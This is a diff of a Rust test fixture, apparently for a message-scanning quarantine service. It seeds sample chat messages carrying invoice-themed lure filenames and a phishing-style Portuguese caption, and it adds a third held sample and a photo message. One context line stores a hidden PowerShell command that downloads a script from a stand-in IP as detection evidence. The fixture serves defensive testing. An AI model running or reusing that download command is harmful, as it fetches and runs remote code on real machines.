@@ -148,12 +148,18 @@ async fn fill(seeded: &mut Seeded) {
         evidence: "powershell -w hidden -c iwr http://198.51.100.7/a.ps1".into(),
         ..eicar.clone()
     };
-    for (what, name, file) in
-        [("worm", "Fornecedor Silva", "Fatura_2026-11.zip"), ("worm2", "João P.", "comprovante.pdf")]
-    {
-        let content = json!({"type": "document", "document": {"id": "900001", "filename": file, "mime_type": "application/pdf", "caption": "Segue a fatura, abra no computador"}});
+    // The last two are there to be deleted: what they hold is theirs alone.
+    for (what, name, file, media) in [
+        ("worm", "Fornecedor Silva", "Fatura_2026-11.zip", "900001"),
+        ("worm2", "João P.", "comprovante.pdf", "900008"),
+        ("spare", "Ricardo T.", "orcamento.pdf", "900009"),
+    ] {
+        let content = json!({"type": "document", "document": {"id": media, "filename": file, "mime_type": "application/pdf", "caption": "Segue a fatura, abra no computador"}});
         seeded.put(what, name, "5521933332222", content, vec![eicar.clone(), shortcut.clone()], Outcome::Held).await;
     }
+    let photo =
+        json!({"type": "image", "image": {"id": "900001", "filename": "foto.jpg", "caption": "é deste modelo?"}});
+    seeded.put("photo", "Júlia Reis", "5511922221111", photo, Vec::new(), Outcome::Sent).await;
     for number in 0..130u32 {
         let phone = format!("55119{:08}", 10_000_000 + number * 7919 % 80_000_000);
         let asked = [
